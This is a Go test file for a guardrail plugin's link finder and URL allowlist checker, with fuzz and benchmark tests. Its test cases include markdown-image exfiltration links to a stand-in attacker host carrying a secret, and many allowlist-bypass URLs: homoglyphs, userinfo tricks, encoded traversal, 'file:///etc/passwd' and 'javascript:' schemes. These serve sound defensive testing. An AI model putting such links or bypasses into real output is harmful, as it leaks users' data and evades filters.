package links

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"pgregory.net/rapid"

	"github.com/plughook/plughook/plugins/guardrail/detect"
	"github.com/plughook/plughook/plugins/guardrail/internal/detecttest"
)

func TestFind(t *testing.T) {
	for _, c := range []struct {
		text string
		want []string // with ! before what is loaded
	}{
		{
			"see https://corp.example/a?b=c#d. And (http://x.example/y(z)).",
			[]string{"https://corp.example/a?b=c#d", "http://x.example/y(z)"},
		},
		{"![x](https://evil.example/?q=s3cret)", []string{"!https://evil.example/?q=s3cret"}},
		{"![a [b] c]( https://evil.example/x )", []string{"!https://evil.example/x"}},
		{
			"[https://a.example](https://b.example \"title\")",
			[]string{"https://a.example", "https://b.example"},
		},
		{
			"[![i](//evil.example/i.png)](http://x.example)",
			[]string{"!//evil.example/i.png", "http://x.example"},
		},
		{"[r]: //evil.example/x", []string{"!//evil.example/x"}},
		{`<img src="https://evil.example/x.png" alt="">`, []string{"!https://evil.example/x.png"}},
		{`<img src=//evil.example/x>`, []string{"!//evil.example/x"}},
		{`<a href="https:\\evil.example\x">`, []string{`https:\\evil.example\x`}},
		{`<link rel=x href='https://evil.example/x'>`, []string{"!https://evil.example/x"}},
		{"a{background:url(https://evil.example/x)}", []string{"!https://evil.example/x"}},
		{
			"go to www.evil.zz/x or evil.com or evil.com:8080/x, 10.0.0.1/x",
			[]string{"www.evil.zz/x", "evil.com", "evil.com:8080/x", "10.0.0.1/x"},
		},
		{
			"JavaScript:alert(1) data:text/html,x mailto:a@b.example",
			[]string{"JavaScript:alert(1)", "data:text/html,x", "mailto:a@b.example"},
		},
		{
			"https:/evil.example/x ftp://f.example gopher://g.example/",
			[]string{"https:/evil.example/x", "ftp://f.example", "gopher://g.example/"},
		},
		{
			"https://пример.example/ü https://evil。com",
			[]string{"https://пример.example/ü", "https://evil。com"},
		},
		{
			"a@evil.com, README.md, main.rs, e.g. this, 1.2.3.4, v1.2, std::io, C:\\dir, a/b.com, user-data:x, the data: x, and so on...",
			nil,
		},
		{
			"![x](https:evil.example/x) https:10.0.0.1 http:2130706433 http:a@evil",
			[]string{"!https:evil.example/x", "https:10.0.0.1", "http:2130706433", "http:a@evil"},
		},
		{
			"<img src=\"https:evil\"> <a href=http:evil.example>",
			[]string{"!https:evil", "http:evil.example"},
		},
		{
			"![x]( //evil.example/x ) ![x](\n//evil.example/y) [r]:\t//evil.example/z",
			[]string{"!//evil.example/x", "!//evil.example/y", "!//evil.example/z"},
		},
		{
			"a{background:url( //evil.example/x )} url(\" //evil.example/y\")",
			[]string{"!//evil.example/x", "!//evil.example/y"},
		},
		{
			"<img src=\" //evil.example/x\"> <img src = //evil.example/y> <img src='\n\x01\\/evil.example'>",
			[]string{"!//evil.example/x", "!//evil.example/y", `!\/evil.example`},
		},
		{
			"<img srcset='a.png 1x, //evil.example/x 2x,\n//evil.example/y'> <a ping=\"/a //evil.example/z\">",
			[]string{"!//evil.example/x", "!//evil.example/y", "!//evil.example/z"},
		},
		{
			"<img srcset=\"https://corp.example/x,\nhttps://evil.example/y 2x\">",
			[]string{"!https://corp.example/x", "!https://evil.example/y"},
		},
		{
			"<meta http-equiv=refresh content='0;//evil.example'> <meta content=\"5 //evil.example\"> <meta content='1; url= //evil.example'>",
			[]string{"//evil.example", "//evil.example", "//evil.example"},
		},
		{
			"<img src=\"https://corp.example\t.evil.example/x\"><img src='https://corp.example\r\n.evil.example'>",
			[]string{
				"!https://corp.example\t.evil.example/x",
				"!https://corp.example\r\n.evil.example",
			},
		},
		{
			"<img src=\"ht\ntps://evil.example\"><img src='https:\t//evil.example'><img src=\"/\n/evil.example\"><img src='ht\ttps:evil'><a href='java\nscript:x'>",
			[]string{
				"!ht\ntps://evil.example",
				"!https:\t//evil.example",
				"!/\n/evil.example",
				"!ht\ttps:evil",
				"java\nscript:x",
			},
		},
		{
			"<p title=\"https://a.example/x\nhttps://b.example\"> <img src='https://corp.example/x'style='background:url(//evil.example)'>",
			[]string{
				"https://a.example/x",
				"https://b.example",
				"!https://corp.example/x",
				"!//evil.example",
			},
		},
		{
			`<img src='\/\/evil.example'> {"src": "\/\/evil.example"}`,
			[]string{`!\/\/evil.example`, `\/\/evil.example`},
		},
		{
			`![x](https\://evil.example/y) [x](http\:\/\/evil.example) <mailto\:a@evil.example> ![x](http\:evil.example)`,
			[]string{
				`!https\://evil.example/y`,
				`http\:\/\/evil.example`,
				`mailto\:a@evil.example`,
				`!http\:evil.example`,
			},
		},
		{`std\::io, C\:x and https\ : x`, nil},
		{
			"x := f( // comment\n\ty = 1, //comment\n\tz = // comment\n(// comment), if a <b { c = \"d\", e } // f",
			nil,
		},
		{
			"an http:proxy, https:, HTTP::Tiny, http:8080 https:... and \"https:\nyes\", x = \"see https\n.example\"",
			nil,
		},
		{"[rel](/docs/x) and ../y and #z <br/> // comment", nil},
	} {
		var got []string
		found, _ := Find(nil, c.text)
		for _, l := range found {
			s := c.text[l.Start:l.End]
			if l.Loaded {
				s = "!" + s
			}
			got = append(got, s)
		}
		assert.Equal(t, c.want, got, c.text)
	}
}

func TestCheck(t *testing.T) {
	list, err := New(
		[]string{
			"corp.example",
			"*.corp.example",
			"docs.example/public/a",
			"port.example:8443",
			"any.example:*",
			"http://plain.example",
			"bücher.example",
			"127.0.0.1",
			"mailto://mail.example",
		},
		[]string{"https"},
	)
	require.NoError(t, err)
	for address, want := range map[string]error{
		"https://corp.example":                        nil,
		"HTTPS://CORP.example./x?y":                   nil,
		"https://corp.example:443/":                   nil,
		"corp.example/x":                              nil,
		"//corp.example/x":                            nil,
		"https://a.b.corp.example/":                   nil,
		`https:\\corp.example\x`:                      nil,
		"https:corp.example":                          nil,
		"https://%63orp.example":                      nil,
		"https://ｃｏｒｐ.example":                        nil,
		"https://corp。example":                        nil,
		"ht\ntps://corp.example":                      nil,
		"https://docs.example/public/a/b":             nil,
		"https://port.example:8443/":                  nil,
		"https://any.example:1234":                    nil,
		"http://plain.example/":                       nil,
		"https://bücher.example":                      nil,
		"https://xn--bcher-kva.example":               nil,
		"https://127.0.0.1/":                          nil,
		"https://0x7f.1/":                             nil,
		"https://2130706433":                          nil,
		"https://0177.0.0.1":                          nil,
		"https://[::ffff:127.0.0.1]/":                 nil,
		"mailto:a@mail.example":                       nil,
		"http://corp.example":                         errScheme,
		"https://corp.example.evil.example":           errHost,
		"https://evilcorp.example":                    errHost,
		"https://evil.example/corp.example":           errHost,
		"https://evil.example#corp.example":           errHost,
		"https://evil.example?corp.example":           errHost,
		`https://evil.example\.corp.example`:          errHost,
		"https:////evil.example/":                     errHost,
		`https://corp.example\.evil.example/`:         errHost,
		`https://corp.example\@evil.example/`:         errUserinfo,
		`https\://evil.example/`:                      errHost,
		`//corp.example\-evil.example/`:               errHost,
		`https://docs.example/public/a/\../x`:         errPath,
		`https://corp.example/a\_b\/c`:                nil,
		`/\evil.example`:                              errHost,
		"https://cоrp.example":                        errHost, // the o is Cyrillic
		"https://corp.example@evil.example":           errUserinfo,
		"https://corp.example:x@evil.example":         errUserinfo,
		"https://user@corp.example":                   errUserinfo,
		"https://corp.example%40evil.example":         errAddress,
		"https://corp.example%2f.evil.example":        errAddress,
		"https://corp.example:8443":                   errPort,
		"https://port.example":                        errPort,
		"https://docs.example/public/ab":              errPath,
		"https://docs.example/public/a/../../secret":  errPath,
		"https://docs.example/public/a/%2e%2e/%2e./x": errPath,
		"https://docs.example/public/a/%252e%252e/x":  errPath,
		`https://docs.example/public/a\..\..\x`:       errPath,
		"https://":                                    errAddress,
		"https://[::1":                                errAddress,
		"https://256.1.1.1":                           errAddress,
		"https://127.0.0.2":                           errHost,
		"https://[::1]":                               errHost,
		"https://plain.example":                       errScheme,
		"javascript:alert(1)//corp.example":           errScheme,
		"data:text/html,https://corp.example":         errScheme,
		"file:///etc/passwd":                          errScheme,
		"mailto:a@evil.example":                       errHost,
		"https://+127.0.0.1":                          errAddress,
		"https://127.0.1.-255":                        errAddress,
		"https://[[::ffff:127.0.0.1]":                 errAddress,
		"https://a_b.corp.example":                    errAddress,
		"https://≠.corp.example":                      errAddress,
		"https://corp.example ?":                      errAddress,
		"https://docs.example/public/a//..":           errPath,
		"https://docs.example/public/a%2f/../":        errPath,
		"gopher://corp.example:443":                   errScheme,
		"//port.example:08443/":                       nil,
		"https://CORP.Example":                        nil,
	} {
		assert.Equal(t, want, list.Check(address), address)
	}
	for _, long := range []string{
		"https://any.example:" + strings.Repeat("0", 2100) + "@evil.example/",
		"<img src=\"https://corp.example" + strings.Repeat("\n", 2100) + ".evil.example\">",
		"<a href='https://corp.example" + strings.Repeat("\t", 2100) + "@evil.example'>",
	} {
		found, _ := Find(nil, long)
		require.NotEmpty(t, found)
		assert.Equal(t, errAddress, list.Check(long[found[0].Start:found[0].End]), long[:40])
	}
	require.NoError(t, list.Check("https://corp.example/"+strings.Repeat("a", 3000)))
	require.Equal(t, errPath,
		list.Check("https://docs.example/public/a/"+strings.Repeat("a", 3000)))
	for _, bad := range []string{
		"",
		"a*b.example",
		"x.example:port",
		"a@b.example",
		"x.example/?q",
		"https://",
	} {
		_, err := New([]string{bad}, nil)
		assert.Error(t, err, bad)
	}
	all, err := New([]string{"*"}, nil)
	require.NoError(t, err)
	require.NoError(t, all.Check("http://x.example:81/"))
	require.ErrorIs(t, all.Check("ftp://x.example/"), errScheme)
}

// linked is links as a detector.
type linked struct{}

func (linked) Find(found []detect.Finding, text string) []detect.Finding {
	var buffer [8]Link
	all, _ := Find(buffer[:0], text)
	for _, l := range all {
		found = append(found, detect.Finding{Type: "URL", Start: l.Start, End: l.End, Score: 1})
	}
	return found
}
func (linked) Open(text string) int {
	_, open := Find(nil, text)
	return open
}
func (d linked) Reader() detect.Reader { return detecttest.ReadAll(d) }

var texts = rapid.Map(rapid.SliceOfN(rapid.OneOf(
	rapid.SampledFrom([]string{
		"https://",
		"http:/",
		"https:",
		"//",
		`\\`,
		"www.",
		"evil.com",
		"a@b.com",
		"![x](",
		"](",
		")",
		"<img src=",
		"\"",
		" ",
		"data:",
		"\t",
		"<a b='",
		"srcset=\"",
		"=",
		">",
		"https:",
		"evil",
		",",
		"[r]:",
		"x,y",
		"mailto:",
		".",
		":80",
		"/",
		"[::1]",
		`\:`,
		`https\`,
		"é",
		"\xff",
		"192.168.0.1",
		"(",
		"]: ",
	}),
	rapid.StringMatching(`[a-z.:/@\\-]{0,5}`),
	rapid.StringN(0, 3, -1),
), 0, 12), func(parts []string) string { return strings.Join(parts, "") })

func TestLaws(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		law, at := detecttest.Offence(linked{}, texts.Draw(t, "text"))
		require.Empty(t, law, "at %d", at)
	})
	detecttest.Check(t, linked{}, []string{
		strings.Repeat("a", 700) + ".com/x",
		strings.Repeat("ab.", 300) + "https://x.example",
		"https://x.example/" + strings.Repeat("y", 3000) + " z",
		strings.Repeat("/", 300),
	})
}

func FuzzLinks(f *testing.F) {
	f.Add("![x](https://evil.example/?q=1) //a \\\\b www.c d.com:80/ [r]: //x mailto:a@b data:,x")
	list, err := New([]string{"corp.example"}, nil)
	require.NoError(f, err)
	f.Fuzz(func(t *testing.T, text string) {
		if len(text) > 1000 {
			return
		}
		law, at := detecttest.Offence(linked{}, text)
		require.Empty(t, law, "at %d", at)
		found, _ := Find(nil, text)
		for _, l := range found {
			_ = list.Check(text[l.Start:l.End])
		}
		_ = list.Check(text)
	})
}

func TestDevelopmentTexts(t *testing.T) {
	var all []string
	for _, name := range []string{
		"guardrail/pii-dev.jsonl",
		"guardrail/benign-dev.jsonl",
		"guardrail/attacks-dev.jsonl",
		"guardrail/secrets-dev.jsonl.gz",
	} {
		all = append(all, detecttest.Texts(detecttest.Development(t, name))...)
	}
	detecttest.Check(t, linked{}, all)
	p50, p99 := detecttest.HoldBack(linked{}, all)
	t.Logf("held back: p50 %d, p99 %d bytes", p50, p99)
	require.LessOrEqual(t, p50, 8)
	require.LessOrEqual(t, p99, 64)
}

func BenchmarkFind(b *testing.B) {
	for name, text := range map[string]string{
		"prose":   strings.Repeat("Plain words, in ASCII; nothing to be found here, 12.50 of it e.g. at all.\n", 14),
		"slashes": strings.Repeat("/", 1<<20),
		"dots":    strings.Repeat("a.", 1<<19),
		"colons":  strings.Repeat("https:", 1<<17),
		"markup":  strings.Repeat("](//", 1<<18),
		"spread":  "<a b='" + strings.Repeat("a\t/\t", 1<<18),
		"spaces":  "<a b='" + strings.Repeat(strings.Repeat("\t", 1<<10)+"/", 1<<10),
		"scheme":  strings.Repeat("https:"+strings.Repeat("a", 300), 1<<12),
		"quoted":  "<a b='https://" + strings.Repeat("h\n", 1<<19),
	} {
		b.Run(name, func(b *testing.B) {
			b.SetBytes(int64(len(text)))
			var found []Link
			for b.Loop() {
				found, _ = Find(found[:0], text)
			}
		})
	}
}
